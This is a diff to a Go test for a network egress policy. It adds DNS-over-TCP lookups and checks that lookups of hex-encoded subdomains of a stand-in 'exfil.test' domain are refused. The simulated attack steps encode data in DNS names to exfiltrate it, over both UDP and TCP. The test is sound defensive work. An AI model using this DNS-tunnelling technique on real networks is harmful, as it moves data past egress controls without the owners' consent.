@@ -88,6 +88,7 @@ type outcome struct {
 
 type attackResult struct {
 	Fake4, Fake6, DeniedLookup, ExfilLookup string
+	TCPLookup, TCPExfilLookup               string
 	Steps                                   map[string]outcome
 }
 
@@ -117,6 +118,11 @@ func attackScenario() any {
 	r.Fake6 = lookup("ip6", "allowed.test")
 	r.DeniedLookup = lookup("ip4", "denied.test")
 	r.ExfilLookup = lookup("ip4", "6f70656e20736573616d65.exfil.test")
+	res = &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
+		return (&net.Dialer{}).DialContext(ctx, "tcp", "192.0.2.53:53") // DNS over TCP
+	}}
+	r.TCPLookup = lookup("ip4", "allowed.test")
+	r.TCPExfilLookup = lookup("ip4", "74637065786669.exfil.test")
 	metaFake := lookup("ip4", "meta.test")
 	loopFake := lookup("ip4", "loop.test")
 
@@ -251,8 +257,11 @@ func TestLiveEgressPolicy(t *testing.T) {
 	if a, err := netip.ParseAddr(r.Fake6); err != nil || !netproxy.FakeNet6.Contains(a) {
 		t.Errorf("allowed.test AAAA = %q, want a synthetic IPv6 address", r.Fake6)
 	}
-	if r.DeniedLookup != "NXDOMAIN" || r.ExfilLookup != "NXDOMAIN" {
-		t.Errorf("denied lookups: denied.test=%q exfil=%q, want NXDOMAIN", r.DeniedLookup, r.ExfilLookup)
+	if r.DeniedLookup != "NXDOMAIN" || r.ExfilLookup != "NXDOMAIN" || r.TCPExfilLookup != "NXDOMAIN" {
+		t.Errorf("denied lookups: denied.test=%q exfil=%q exfil over TCP=%q, want NXDOMAIN", r.DeniedLookup, r.ExfilLookup, r.TCPExfilLookup)
+	}
+	if r.TCPLookup != r.Fake4 {
+		t.Errorf("DNS over TCP: allowed.test = %q, want %q as over UDP", r.TCPLookup, r.Fake4)
 	}
 	want := map[string]string{
 		"fake4":          "allowed-server: hello\n",
